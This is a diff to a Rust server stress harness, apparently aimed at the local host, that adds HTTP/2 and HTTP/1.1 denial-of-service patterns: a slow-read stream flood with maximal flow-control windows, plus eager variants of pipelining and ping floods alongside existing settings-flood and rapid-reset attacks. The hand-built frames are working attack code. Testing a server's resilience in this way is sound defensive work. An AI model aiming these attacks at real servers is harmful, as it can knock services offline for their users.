@@ -69,14 +69,29 @@ pub const ATTACKS: &[Attack] = &[
         run: deaf,
     },
     Attack {
+        name: "deaf-streams",
+        connections: 50,
+        run: deaf_streams,
+    },
+    Attack {
         name: "pipelines",
         connections: 50,
         run: pipelines,
     },
     Attack {
+        name: "eager-pipelines",
+        connections: 50,
+        run: eager_pipelines,
+    },
+    Attack {
         name: "pings",
         connections: 100,
         run: pings,
+    },
+    Attack {
+        name: "eager-pings",
+        connections: 100,
+        run: eager_pings,
     },
     Attack {
         name: "settings",
@@ -253,24 +268,46 @@ fn deaf(target: &Target, count: usize, hold: Duration) -> Statuses {
     Statuses::new()
 }
 
-/// Sends as many requests as are taken, and reads no answer.
-fn pipelines(target: &Target, count: usize, hold: Duration) -> Statuses {
-    let requests = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(1000);
-    press(open(target, count, b""), &requests, hold)
+/// What those who press do with the answers.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Answers {
+    /// They leave them, so that the server can send no more at some time.
+    Left,
+    /// They take them, so that the server never has to wait.
+    Taken,
 }
 
-/// Writes as much as is taken, and reads nothing.
-fn press(mut streams: Vec<TcpStream>, bytes: &[u8], hold: Duration) -> Statuses {
+/// Many requests in a row.
+fn requests() -> Vec<u8> {
+    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(1000)
+}
+
+/// Sends as many requests as are taken, and reads no answer.
+fn pipelines(target: &Target, count: usize, hold: Duration) -> Statuses {
+    press(open(target, count, b""), &requests(), Answers::Left, hold)
+}
+
+/// Sends as many requests as are taken, and reads the answers.
+fn eager_pipelines(target: &Target, count: usize, hold: Duration) -> Statuses {
+    press(open(target, count, b""), &requests(), Answers::Taken, hold)
+}
+
+/// Writes as much as is taken.
+fn press(mut streams: Vec<TcpStream>, bytes: &[u8], answers: Answers, hold: Duration) -> Statuses {
     for stream in &streams {
         stream.set_nonblocking(true).unwrap();
     }
     let started = Instant::now();
     // Where in `bytes` each of them is.
     let mut places = vec![0; streams.len()];
+    let mut scrap = vec![0; 256 * 1024];
     while started.elapsed() < hold {
         for (stream, place) in streams.iter_mut().zip(&mut places) {
             if let Ok(written) = stream.write(&bytes[*place..]) {
                 *place = (*place + written) % bytes.len();
+            }
+            if answers == Answers::Taken {
+                let _ = stream.read(&mut scrap);
             }
         }
         thread::sleep(Duration::from_millis(1));
@@ -280,17 +317,47 @@ fn press(mut streams: Vec<TcpStream>, bytes: &[u8], hold: Duration) -> Statuses 
 
 /// What a client of HTTP/2 begins with (RFC 9113 section 3.4).
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0abcdefgh";
+
+/// Asks a hundred times for 64 MB on each connection, makes room for all of it, and reads nothing.
+fn deaf_streams(target: &Target, count: usize, hold: Duration) -> Statuses {
+    // INITIAL_WINDOW_SIZE as large as it can be, and as much for the connection.
+    let mut frames = [
+        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+        &b"\0\0\x06\x04\0\0\0\0\0\0\x04\x7f\xff\xff\xff"[..],
+        b"\0\0\x04\x08\0\0\0\0\0\x7f\xff\0\0",
+    ]
+    .concat();
+    for number in (1_u32..200).step_by(2) {
+        // GET, http, the path "/large", and the authority.
+        let fields = b"\x82\x86\x04\x06/large\x01\x09127.0.0.1";
+        frames.extend_from_slice(&[0, 0, fields.len() as u8, 1, 5]);
+        frames.extend_from_slice(&number.to_be_bytes());
+        frames.extend_from_slice(fields);
+    }
+    let streams = open(target, count, &frames);
+    thread::sleep(hold);
+    drop(streams);
+    Statuses::new()
+}
 
 /// Sends pings, and reads no answer.
 fn pings(target: &Target, count: usize, hold: Duration) -> Statuses {
-    let ping = b"\0\0\x08\x06\0\0\0\0\0abcdefgh".repeat(1000);
-    press(open(target, count, PREFACE), &ping, hold)
+    let pings = PING.repeat(1000);
+    press(open(target, count, PREFACE), &pings, Answers::Left, hold)
+}
+
+/// Sends pings, and reads the answers.
+fn eager_pings(target: &Target, count: usize, hold: Duration) -> Statuses {
+    let pings = PING.repeat(1000);
+    press(open(target, count, PREFACE), &pings, Answers::Taken, hold)
 }
 
 /// Sends settings, and reads no answer.
 fn settings(target: &Target, count: usize, hold: Duration) -> Statuses {
     let settings = b"\0\0\0\x04\0\0\0\0\0".repeat(1000);
-    press(open(target, count, PREFACE), &settings, hold)
+    let streams = open(target, count, PREFACE);
+    press(streams, &settings, Answers::Left, hold)
 }
 
 /// Begins requests and cancels them at once.
@@ -307,5 +374,5 @@ fn resets(target: &Target, count: usize, hold: Duration) -> Statuses {
         frames.extend_from_slice(&number.to_be_bytes());
         frames.extend_from_slice(b"\0\0\0\x08");
     }
-    press(streams, &frames, hold)
+    press(streams, &frames, Answers::Left, hold)
 }
